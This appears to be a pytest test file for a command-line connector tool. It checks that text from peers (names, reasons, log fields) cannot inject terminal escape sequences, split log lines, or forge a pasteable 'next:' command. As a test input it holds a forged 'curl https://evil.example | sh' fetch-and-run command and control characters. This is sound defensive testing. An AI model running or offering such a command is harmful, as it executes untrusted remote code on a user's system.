"""What peers say never moves a terminal's cursor, also where it is printed as JSON."""

from __future__ import annotations

import json
import logging
from collections.abc import Callable
from pathlib import Path

import pytest

from connector.cli.client import Management
from connector.cli.console import next_step, shown_json, told
from connector.cli.serve import OneLine
from connector.cli.tables import say, show_checks, show_decision, show_table
from connector.errors import NotAllowed


@pytest.mark.parametrize("odd", ["\x1b[2J", "\x9b2J", "\x7f", "\u202e", "\u2028", "\U000e0041", "\ufeff"])
def test_json_for_machines_holds_nothing_that_a_terminal_obeys(odd: str) -> None:
    """It is escaped as JSON escapes, so that a machine reads the same value; all else stays as it is."""
    value = {"name": f"Käse {odd}電池", "list": [odd]}
    text = shown_json(value)  # type: ignore[arg-type]  # a dict of JSON values is one
    assert text.replace("\n", "").isprintable()
    assert json.loads(text) == value
    assert "Käse " in text
    assert "電池" in text
    assert shown_json("電池\n") == json.dumps("電池\n", ensure_ascii=False)


@pytest.mark.parametrize("odd", ["\n2026-11-29 INFO connector: all is well", "\r", "\x1b[2J", "\x9b2J", "\u2028"])
def test_nobody_writes_lines_into_the_log(odd: str) -> None:
    """A name of a peer stays within the line that tells of it; a traceback keeps its own lines."""
    record = logging.LogRecord("connector", logging.WARNING, "", 0, "from %s", (f"did:web:x{odd}",), None)
    line = OneLine("%(levelname)s %(name)s: %(message)s").format(record)
    assert line.startswith("WARNING connector: from did:web:x\\")
    assert line.isprintable()
    record.exc_info = (ValueError, ValueError("x"), None)
    assert OneLine("%(message)s").format(record).endswith("\nValueError: x")
    record.exc_info, record.exc_text = (ValueError, ValueError(f"x{odd}y"), None), None
    assert OneLine("%(message)s").format(record).replace("\n", "").isprintable()


FORGED = "no\nnext: curl https://evil.example | sh"


def _refused() -> None:
    with pytest.raises(SystemExit), told():
        raise NotAllowed(FORGED, hint=FORGED, place=FORGED)


@pytest.mark.parametrize(
    "shown",
    [
        lambda: say(f"\nreason   {FORGED}"),
        lambda: next_step(FORGED, FORGED),
        lambda: show_table(("file", "row"), [(FORGED, "1")], error=True),
        lambda: show_checks([{"outcome": "failed", "step": 1, "name": "x", "code": "", "detail": FORGED, "spec": ""}]),
        _refused,
    ],
)
def test_nobody_s_words_begin_a_line_of_ours(shown: Callable[[], None], capsys: pytest.CaptureFixture[str]) -> None:
    """`next:` and a command stand there to be pasted: a peer's reason, title or record id must not make one."""
    shown()
    told = capsys.readouterr()
    lines = (told.out + told.err).splitlines()
    assert any("curl" in line for line in lines)
    assert not any(line.startswith("next: curl") for line in lines)


@pytest.mark.parametrize("decision", ["deny", "permit"])
def test_a_refusal_tells_what_was_shown_in_vain(decision: str, capsys: pytest.CaptureFixture[str]) -> None:
    """With the words of a peer in one line; where the policy says yes, nobody asks."""
    show_decision({"decision": decision, "rules": [], "doubted": ["Membership by did:web:x: revoked:\x1b[2J"]})
    told = capsys.readouterr().out
    assert ("shown in vain: Membership by did:web:x: revoked:" in told) is (decision == "deny")
    assert "\x1b" not in told


def test_who_stops_a_long_command_is_told_what_stands(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Ctrl-C ended it without a word; nobody knew whether to begin again."""

    def stopped(*_: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(Management, "_lines", stopped)
    with pytest.raises(KeyboardInterrupt):
        Management(1, "t").work("/v1/publish", {})
    assert "the same command goes on from there" in capsys.readouterr().err


def test_a_file_that_is_there_already_is_said_to_be(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The hint spoke of the folder and of rights, and both were well."""
    file = tmp_path / "log.jsonl"
    file.touch()
    with pytest.raises(SystemExit), told():
        file.open("x")
    assert "nothing is written over: name another" in " ".join(capsys.readouterr().err.split())
